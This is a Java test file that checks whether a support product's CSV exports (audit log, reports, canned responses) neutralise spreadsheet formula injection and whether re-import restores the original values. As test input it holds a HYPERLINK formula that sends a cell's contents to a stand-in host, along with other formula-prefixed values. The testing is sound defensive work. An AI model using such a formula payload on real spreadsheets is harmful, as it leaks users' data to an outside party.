package org.parley.base.csv;

import org.parley.conversation.ConversationAccess.Viewer;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.parley.audit.AuditSearch;
import org.parley.audit.AuditTrail;
import org.parley.conversation.ConversationService;
import org.parley.reply.CannedResponseInput;
import org.parley.reply.CannedResponseService;
import org.parley.reply.CannedResponseView;
import org.parley.reply.ResponseScope;
import org.parley.report.GroupBy;
import org.parley.report.Report;
import org.parley.report.ReportRequest;
import org.parley.report.ReportTable;
import org.parley.report.Reports;
import org.parley.support.ApiClient;
import org.parley.support.ParleySpringTest;
import org.parley.support.Viewers;
import org.parley.team.Role;
import org.parley.team.TeamDirectory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.security.authentication.AuthenticationProvider;
import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
import org.springframework.security.core.AuthenticationException;

/** Every CSV export Parley offers, fed text a person typed that a spreadsheet would run as a formula. */
@ParleySpringTest
class CsvExportsTest {

    static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";

    @LocalServerPort
    int port;
    @Autowired
    AuditTrail audit;
    @Autowired
    AuthenticationProvider signIn;
    @Autowired
    TeamDirectory team;
    @Autowired
    ConversationService conversations;
    @Autowired
    Reports reports;
    @Autowired
    CannedResponseService responses;

    final String run = UUID.randomUUID().toString().substring(0, 8);

    @Test
    void auditCsvNeutralisesAFailedLoginsUsername() throws Exception {
        String username = FORMULA + run;
        assertThatThrownBy(() -> signIn.authenticate(UsernamePasswordAuthenticationToken.unauthenticated(username,
                "wrong-password"))).isInstanceOf(AuthenticationException.class);

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        audit.exportCsv(new AuditSearch(run, "login.failed", null, null, null, null), out);
        List<CSVRecord> rows = CsvWriterTest.records(out.toString(StandardCharsets.UTF_8));
        assertThat(rows).singleElement().satisfies(r -> assertThat(r.get("actor")).isEqualTo("'" + username));
    }

    @Test
    void reportCsvNeutralisesAnAgentsName() throws Exception {
        UUID agent = team.createAgent("csv-" + run, "-2+3 " + run, null, "password-123", Set.of(Role.AGENT)).getId();
        UUID admin = team.createAgent("csv-admin-" + run, "Admin " + run, null, "password-123", Set.of(Role.ADMIN))
                .getId();
        Instant asked = Instant.now().minus(Duration.ofHours(3));
        ApiClient api = new ApiClient(port, ParleySpringTest.TOKEN);
        ApiClient.Response in = api.post("/api/v1/inbound", """
                {"channel": "EMAIL", "externalId": "csv-%s", "from": {"type": "EMAIL", "value": "csv-%s@example.com",
                 "name": "@SUM(A1) %s"}, "subject": "+1 %s", "text": "Hi", "receivedAt": "%s"}"""
                .formatted(run, run, run, run, asked));
        assertThat(in.status()).isEqualTo(201);
        UUID id = UUID.fromString(in.text("conversationId"));
        conversations.assign(Viewer.SYSTEM, id, agent);
        conversations.replyAt(Viewer.SYSTEM, id, agent, null, "Hello", false, asked.plus(Duration.ofMinutes(30)));
        ReportRequest byAgent = new ReportRequest(LocalDate.now().minusDays(1), LocalDate.now().plusDays(1), null,
                GroupBy.AGENT);
        await().atMost(Duration.ofSeconds(15)).until(() -> reports.report(Viewers.of(admin), byAgent).table(Reports.RESPONSES)
                .rows().stream().anyMatch(r -> r.key().equals(agent.toString())));

        Report report = reports.report(Viewers.of(admin), byAgent);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        reports.exportCsv(Viewers.of(admin), report, Reports.RESPONSES, out);
        List<CSVRecord> rows = CsvWriterTest.records(out.toString(StandardCharsets.UTF_8));
        assertThat(rows).extracting(r -> r.get(0)).contains("'-2+3 " + run)
                .noneMatch(label -> label.startsWith("-") || label.startsWith("=") || label.startsWith("+")
                        || label.startsWith("@"));
        assertThat(report.table(Reports.RESPONSES).row(agent.toString())).extracting(ReportTable.Row::label)
                .isEqualTo("-2+3 " + run); // the screen shows the name as it is
    }

    @Test
    void cannedResponseCsvNeutralisesAndItsImportRestoresExactly() throws Exception {
        UUID agent = team.createAgent("csv-canned-" + run, "Canned " + run, null, "password-123", Set.of(Role.AGENT))
                .getId();
        responses.create(agent, new CannedResponseInput(FORMULA, "f" + run, "@SUM(A1:A9) is not a formula",
                "-1 short", "+folder", List.of("tag"), ResponseScope.PERSONAL, null, null, null));
        String csv = responses.exportCsv(agent);
        CSVRecord row = CsvWriterTest.records(csv).getFirst();
        assertThat(row.get("title")).isEqualTo("'" + FORMULA);
        assertThat(row.get("body")).isEqualTo("'@SUM(A1:A9) is not a formula");
        assertThat(row.get("short_body")).isEqualTo("'-1 short");
        assertThat(row.get("folder")).isEqualTo("'+folder");

        responses.visibleTo(agent).stream().filter(r -> responses.canManage(agent, r.id()))
                .forEach(r -> responses.delete(agent, r.id()));
        responses.importCsv(agent, new StringReader(csv));
        CannedResponseView back = responses.visibleTo(agent).stream().filter(r -> r.shortcut().equals("f" + run))
                .findFirst().orElseThrow();
        assertThat(back.title()).isEqualTo(FORMULA);
        assertThat(back.body()).isEqualTo("@SUM(A1:A9) is not a formula");
        assertThat(back.shortBody()).isEqualTo("-1 short");
        assertThat(back.folder()).isEqualTo("+folder");
        assertThat(responses.exportCsv(agent)).isEqualTo(csv);
    }
}
